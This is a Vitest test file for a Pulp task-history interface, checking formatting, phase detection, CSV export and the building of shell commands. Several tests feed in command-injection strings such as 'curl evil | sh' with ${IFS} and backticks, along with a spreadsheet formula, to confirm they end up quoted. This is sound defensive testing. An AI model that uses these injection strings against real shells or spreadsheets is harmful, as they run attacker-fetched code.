import { describe, expect, test, vi } from "vitest";
import { adminOf, adminOfTask, curlOfTask } from "../src/model/actions";
import { addressOf, sentence } from "../src/model/api";
import { argumentsOf, exactJson, type Field } from "../src/model/form";
import { asCsv, differences, type Entry, phasesOf } from "../src/model/history";
import { fractionOf, nameOf } from "../src/model/tasks";
import { ago, duration, growing } from "../src/model/times";

const report = (code: string, done: number, total: number) => ({ code, done, total, message: code, state: "running" });

function entry(word: string, second: number, data: Record<string, unknown> = {}, effect = "applied"): Entry {
  const time = `2026-01-01T00:00:${String(second).padStart(2, "0")}Z`;
  const type = `org.pulpproject.task.${word}.v1`;
  const event = { type, id: "1", subject: "2", source: "/", time, data };
  return { partition: 0, offset: second, type, event_id: "1", event_time: time, time, actor: "user:=jo", effect, event };
}

test("progress counts each part once", () => {
  expect(fractionOf([report("a", 5, 10), report("a.b", 5, 10), report("c", 10, 10)])).toBe(0.75);
  expect(fractionOf([report("a.b", 1, 4), report("ab", 1, 4)])).toBe(0.25);
  expect(fractionOf([])).toBeNull();
  expect(fractionOf([report("a", 0, 0)])).toBeNull();
});

test("durations have two units", () => {
  expect([850, 4210, 42_000, 190_000, 7_500_000, 273_600_000].map(duration)).toEqual([
    "850 ms",
    "4.2 s",
    "42 s",
    "3 min 10 s",
    "2 h 5 min",
    "3 d 4 h",
  ]);
  expect([growing(0), growing(2900)]).toEqual(["1 s", "2 s"]);
  expect([ago(0), ago(59_000), ago(3_600_000)]).toEqual(["just now", "59 s ago", "1 h ago"]);
});

describe("the course of a task", () => {
  test("waits, runs, rests, runs, is stopped", () => {
    const history = [
      entry("accepted", 0),
      entry("started", 2),
      entry("progress", 3),
      entry("attempt-failed", 4),
      entry("started", 6),
      entry("cancel-requested", 8),
      entry("cancel-requested", 9, {}, "already-requested"),
      entry("finished", 10),
    ];
    expect(phasesOf(history).map((each) => [each.kind, ((each.to ?? 0) - each.from) / 1000])).toEqual([
      ["waiting", 2],
      ["running", 2],
      ["resting", 2],
      ["running", 2],
      ["stopping", 2],
    ]);
  });
  test("goes on while there is no end", () => {
    expect(phasesOf([entry("accepted", 0)]).map((each) => each.to)).toEqual([null]);
  });
});

test("differences name the field, then and now", () => {
  expect(differences({ state: "waiting", a: { b: 1, c: 2 } }, { state: "running", a: { b: 1, c: 3 } })).toEqual([
    { path: "state", before: "waiting", after: "running" },
    { path: "a.c", before: "2", after: "3" },
  ]);
});

test("a spreadsheet takes no cell for a formula, and quotes are doubled", () => {
  const [, row] = asCsv([{ ...entry("accepted", 1, { operation: "sync" }), actor: "=1+1" }]).split("\r\n");
  expect(row).toContain(",'=1+1,");
  expect(row).toContain('"{""type""');
});

test("an answer that is an error is one sentence", () => {
  expect(sentence(404, { detail: "Not found." })).toBe("Not found.");
  expect(sentence(400, { q: ["Syntax error in expression."] })).toBe("q: Syntax error in expression.");
  expect(sentence(502, "<html>")).toBe("The server answered with 502.");
});

test("an address leaves out what is not given", () => {
  expect(addressOf("tasks/", { q: "", limit: 5, x: undefined })).toBe("/pulp/api/v3/tasks/?limit=5");
  expect(nameOf("/pulp/api/v3/users/j%C3%B6/")).toBe("jö");
});

describe("a filter as options of pulp-admin", () => {
  test.each([
    [[], "", "--all"],
    [["failed", "canceled"], "", "--state failed,canceled"],
    [[], "failed name=sync @jo", "--state failed --operation sync --who jo"],
    [[], "repository:zoo tags=night queue=slow", "--all --resource repository:zoo --tag night --queue slow"],
    [["failed"], "running", null],
    [[], "zoo", null],
    [[], "NOT failed", null],
    [[], "name=sync OR name=publish", null],
    [[], 'name="remove orphans"', null],
    [[], "name=x;curl${IFS}evil|sh", "--all --operation 'x;curl${IFS}evil|sh'"],
    [[], "state=`id`", "--state '`id`'"],
  ])("%s %s", (states, q, options) => expect(adminOf({ states, q })).toBe(options));
});

test("nothing that a link brings along runs in the shell into which a command is copied", () => {
  vi.stubGlobal("location", { origin: "https://pulp.example.org" });
  const at = "now'; curl evil | sh #";
  expect(adminOfTask("5e1f", at)).toBe("pulp-admin tasks details --task-id 5e1f --as-of 'now'\\''; curl evil | sh #'");
  expect(curlOfTask("/tasks/5e1f/", at)).toBe(
    "curl --user NAME 'https://pulp.example.org/tasks/5e1f/?as_of=now%27%3B+curl+evil+%7C+sh+%23'",
  );
  expect(adminOfTask("5e1f", "3:17")).toBe("pulp-admin tasks details --task-id 5e1f --as-of 3:17");
});

describe("numbers in forms", () => {
  const field = (kind: Field["kind"]): Field => ({ name: "n", kind, choices: [], required: false, hint: "", placeholder: "" });
  const given = (kind: Field["kind"], text: string, before = {}) => argumentsOf([field(kind)], { n: text }, before);

  test.each(["7", "-7", "2.5", "1e300", "9007199254740991"])("%s is taken", (text) => {
    expect(given("number", text)).toEqual({ n: Number(text) });
    expect(given("json", `[${text}]`)).toEqual({ n: [Number(text)] });
  });

  test.each(["9007199254740993", "123456789012345678901", "1e999"])("%s, which a browser would change, is refused", (text) => {
    expect(() => given("number", text)).toThrow(`n: a browser cannot hold ${text} without changing it`);
    expect(() => given("json", `{"a": [${text}]}`)).toThrow("without changing it");
  });

  test("digits within a text are no number", () => {
    expect(exactJson("n", '{"id": "9007199254740993", "q": "\\"1e999"}')).toEqual({ id: "9007199254740993", q: '"1e999' });
  });

  test("what was left as it was before is the same", () => {
    expect(given("number", "9007199254740992", { n: 2 ** 53 })).toEqual({ n: 2 ** 53 });
  });
});
